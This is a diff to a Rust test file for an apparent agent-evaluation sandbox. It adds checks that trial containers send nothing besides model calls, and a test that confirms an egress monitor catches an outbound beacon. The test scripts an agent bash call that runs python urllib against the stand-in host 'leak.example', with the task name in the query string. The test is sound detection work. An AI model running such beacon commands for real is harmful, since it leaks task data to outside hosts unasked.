@@ -52,6 +52,11 @@ pub(crate) fn skill_makes_the_difference(harness: Harness, api: ApiKind, read_sk
     assert_eq!((p.without.score, p.with.score), (Some(0.0), Some(1.0)), "the skill made the difference");
     assert_eq!(p.with.skills_listed.as_deref(), Some(&["answer-keeper".to_string()][..]));
     assert_eq!(p.without.skills_listed.as_deref(), Some(&[][..]));
+    // Watched, neither arm's container sent anything besides the model calls: no telemetry,
+    // update check, model list or plugin fetch.
+    for arm in [&p.without, &p.with] {
+        assert_eq!(arm.snapshot.as_ref().and_then(|s| s.egress.clone()), Some(Vec::new()), "{:?}", arm.snapshot);
+    }
 
     let with = trajectory(&ws, p.with.trial_id);
     assert_eq!(skillscope_atif::validate(&with), Vec::new(), "{with}");
@@ -102,6 +107,33 @@ fn gemini_runs_both_arms_in_the_sandbox_through_the_relay_and_proxy() {
     // and nothing else: no model router, token count, telemetry or update check.
     let call = "POST /v1beta/models/model-test:streamGenerateContent?alt=sse";
     assert_eq!(requests, vec![call; 5], "{requests:#?}");
+}
+
+#[test]
+fn what_a_harness_trial_sends_besides_its_model_calls_is_seen() {
+    // The agent runs a command that looks a host up and sends it a request: in a container with no
+    // network it could not leave, and the watch names both attempts in the arm's snapshot.
+    join_session_keyring();
+    let rt = rt();
+    rt.block_on(debian_engine());
+    let beacon = "python3 -c \"import urllib.request as u; u.urlopen('http://leak.example/beacon?task=copy', timeout=5)\"; cat task.txt > answer.txt";
+    let script: Script = serde_json::from_value(json!({
+        "default": [{"tool": "bash", "args": {"command": beacon}}, {"text": "copied"}]
+    }))
+    .unwrap();
+    let server = rt.block_on(skillscope_modelserver::start(ServerOptions { script, ..Default::default() })).unwrap();
+    let tmp = tempfile::tempdir().unwrap();
+    let ws = Workspace::open(tmp.path().join("home")).unwrap();
+    let config = cli_agent(&ws, Harness::OpenCode, ApiKind::OpenAiChat, &server.base_url, None);
+    let version = import_skill(&ws, tmp.path(), "answer-keeper", ANSWER_KEEPER);
+    let (p, _) = run_one_pair(&ws, &rt, version, copy_task_on_debian(tmp.path()), config);
+    for arm in [&p.without, &p.with] {
+        let egress = arm.snapshot.as_ref().and_then(|s| s.egress.clone()).expect("the trial was watched");
+        assert!(egress.iter().any(|l| l.starts_with("DNS A leak.example")), "{egress:?}");
+        assert!(egress.contains(&"HTTP GET leak.example/beacon?task=copy".to_string()), "{egress:?}");
+    }
+    // What the arm sent is its own, not a difference in what it ran with.
+    assert!(p.excluded.is_empty(), "{:?}", p.excluded);
 }
 
 #[test]
